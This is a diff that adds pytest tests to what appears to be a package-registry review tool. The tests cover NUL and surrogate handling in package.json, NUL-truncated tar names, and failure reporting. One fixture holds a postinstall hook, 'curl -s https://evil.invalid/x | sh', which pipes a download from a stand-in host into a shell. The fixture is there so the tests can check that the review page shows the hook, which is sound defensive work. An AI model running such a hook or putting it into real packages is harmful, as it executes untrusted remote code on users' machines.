@@ -9,8 +9,11 @@ import os
 import tarfile
 
 import pytest
+from django.db import DataError
+from django.utils import timezone
 
-from reviews.models import Analysis, FileChangeRow, StagedVersion
+from reviews.models import Analysis, FileChangeRow, StageBaseline, StagedVersion
+from reviews.review import analysis
 from tests.inspect.builders import Entry, gzip_bomb, make_tarball, many_entries, package
 from tests.review.support import Registry
 from tests.review.test_pages import HTMX_DIFF, file_page, page
@@ -185,3 +188,109 @@ def test_a_manifest_over_a_mebibyte_is_unreadable_with_its_size(registry: Regist
     found = analysis_of(stage)
     assert found.manifest["problems"] == [f"The staged package.json {over}"]
     assert f"The staged package.json {over}" in page(viewer, stage)
+
+
+def test_nul_and_lone_surrogates_in_package_json_are_stored_as_visible_markers(
+    registry: Registry, viewer
+):
+    manifest = package(
+        NAME,
+        "1.0.0",
+        scripts={"postinstall": "curl -s https://evil.invalid/x\0 | sh", "pre\0install": "x"},
+        dependencies={"left\0pad": "1.0.0"},
+        bin={"x": "cli\ud800.js"},
+    )
+    assert b"\\u0000" in manifest  # an escape in the JSON text, a NUL once parsed
+    assert b"\\ud800" in manifest
+
+    stage = registry.stage(NAME, "1.0.0", tarball=make_tarball({"package.json": manifest}))
+
+    assert stage.integrity == StagedVersion.Integrity.VERIFIED
+    found = analysis_of(stage)
+    assert found.status == Analysis.Status.DONE
+    scripts = {entry["key"]: entry["new"] for entry in found.manifest["scripts"]}
+    assert scripts == {
+        "postinstall": "curl -s https://evil.invalid/x\u2400 | sh",
+        "pre\u2400install": "x",
+    }
+    assert [entry["key"] for entry in found.manifest["dependencies"]] == ["left\u2400pad"]
+    assert [entry["new"] for entry in found.manifest["bin"]] == ["cli\ufffd.js"]
+    body = page(viewer, stage)
+    hooks = body[body.index('id="manifest"') : body.index('id="files"')]
+    assert "curl -s https://evil.invalid/x\u2400 | sh" in hooks
+    assert "left\u2400pad" in hooks
+
+
+def test_a_name_with_a_nul_is_cut_where_tar_readers_cut_it(registry: Registry, viewer):
+    # pax (here because of the é) carries the whole name; C strings end at the NUL.
+    tarball = make_tarball([manifest(), Entry("package/\u00e9vil\0.js.txt", b"x\n")])
+
+    stage = registry.stage(NAME, "1.0.0", tarball=tarball)
+
+    found = analysis_of(stage)
+    assert found.status == Analysis.Status.DONE
+    paths = set(FileChangeRow.objects.filter(analysis=found).values_list("path", flat=True))
+    assert paths == {"package.json", "\u00e9vil"}
+
+
+# -- A failure anywhere ends the analysis, with why on the page -----------------------------------
+
+
+def test_a_row_the_database_refuses_ends_the_analysis_failed_with_why(
+    registry: Registry, viewer, monkeypatch
+):
+    def refuse(*args: object, **kwargs: object) -> None:
+        raise DataError("unsupported Unicode escape sequence")
+
+    monkeypatch.setattr(FileChangeRow.objects, "bulk_create", refuse)
+
+    stage = registry.stage(NAME, "1.0.0", tarball=make_tarball([manifest()]))
+
+    found = analysis_of(stage)
+    assert found.status == Analysis.Status.FAILED
+    assert found.error == "DataError: unsupported Unicode escape sequence"
+    assert not FileChangeRow.objects.filter(analysis=found).exists()
+    body = page(viewer, stage)
+    assert "Analysing" not in body
+    assert "The analysis failed (DataError: unsupported Unicode escape sequence)" in body
+
+
+def test_a_crash_before_the_analysis_is_a_problem_on_the_page(
+    registry: Registry, viewer, monkeypatch
+):
+    def crash(*args: object, **kwargs: object) -> None:
+        raise RuntimeError("a bug")
+
+    monkeypatch.setattr(analysis, "choose_baseline", crash)
+
+    stage = registry.stage(NAME, "1.0.0", tarball=make_tarball([manifest()]))
+
+    problem = StageBaseline.objects.get(stage=stage).problem
+    assert problem.startswith("The analysis could not run: RuntimeError: a bug.")
+    assert f"analyse_stage {stage.stage_id} --again" in problem
+    assert analysis.stages_needing_analysis() == []  # not queued again and again
+    body = page(viewer, stage)
+    assert "Analysing" not in body
+    assert "The analysis could not run: RuntimeError: a bug." in body
+
+
+def test_an_analysis_whose_workers_keep_dying_ends_failed(registry: Registry, viewer):
+    stage = registry.stage(NAME, "1.0.0", tarball=make_tarball([manifest()]), analyse=False)
+    with registry.client() as client:
+        analysis.analyse_stage(stage.pk, client=client)
+    # Every worker that took it died (killed for memory, say) and left it running.
+    long_ago = timezone.now() - analysis.LEASE * 2
+    Analysis.objects.update(
+        status=Analysis.Status.RUNNING, claimed_at=long_ago, attempts=analysis.MAX_ATTEMPTS
+    )
+    assert analysis.stages_needing_analysis() == [stage.pk]
+
+    with registry.client() as client:
+        outcome = analysis.analyse_stage(stage.pk, client=client)
+
+    assert outcome.status == Analysis.Status.FAILED
+    found = analysis_of(stage)
+    assert found.status == Analysis.Status.FAILED
+    assert found.error.startswith("it stopped without finishing 3 times")
+    assert analysis.stages_needing_analysis() == []
+    assert "stopped without finishing 3 times" in page(viewer, stage)
